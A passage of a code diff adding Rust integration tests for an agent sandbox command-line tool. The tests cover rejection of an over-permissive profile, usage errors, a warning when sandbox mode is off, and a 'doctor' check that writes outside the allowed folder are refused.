+            &root.join("config.toml").display().to_string(),
+        )
+        .args(["sandbox", "--profile", "wide", "--spec"])
+        .arg(root.join("task.md").display().to_string())
+        .arg("--root")
+        .arg(root.join("wt").display().to_string())
+        .args(["--", "true"])
+        .run();
+    assert_eq!(run.code, 125, "{}", run.transcript());
+    assert!(
+        run.stderr
+            .contains("the sandbox would let the agent write the worktree root"),
+        "{}",
+        run.stderr
+    );
+}
+
+#[test]
+fn usage_errors() {
+    let test = fixture();
+    let root = test.path().to_path_buf();
+    let run = test
+        .args(["sandbox", "--spec"])
+        .arg(root.join("task.md").display().to_string())
+        .run();
+    assert_eq!(run.code, 2, "{}", run.transcript());
+    assert!(run.stderr.contains("no command given"), "{}", run.stderr);
+}
+
+#[test]
+fn mode_off_warns_and_runs() {
+    let test = fixture();
+    let root = test.path().to_path_buf();
+    let run = test
+        .args(["sandbox", "--mode", "off", "--spec"])
+        .arg(root.join("task.md").display().to_string())
+        .arg("--root")
+        .arg(root.join("wt").display().to_string())
+        .args(["--", "sh", "-c", "echo ran"])
+        .run();
+    assert_eq!(run.code, 0, "{}", run.transcript());
+    assert!(run.stderr.contains("sandbox mode is off"), "{}", run.stderr);
+}
+
+#[test]
+fn doctor_proves_the_sandbox() {
+    if !supported() {
+        return;
+    }
+    let run = Test::new().arg("doctor").run();
+    assert_eq!(run.code, 0, "{}", run.transcript());
+    assert!(
+        run.stdout.contains("a write outside allowed/ was refused"),
+        "{}",
+        run.stdout
+    );
+    assert!(!run.stdout.contains("FAILED"), "{}", run.stdout);
+}
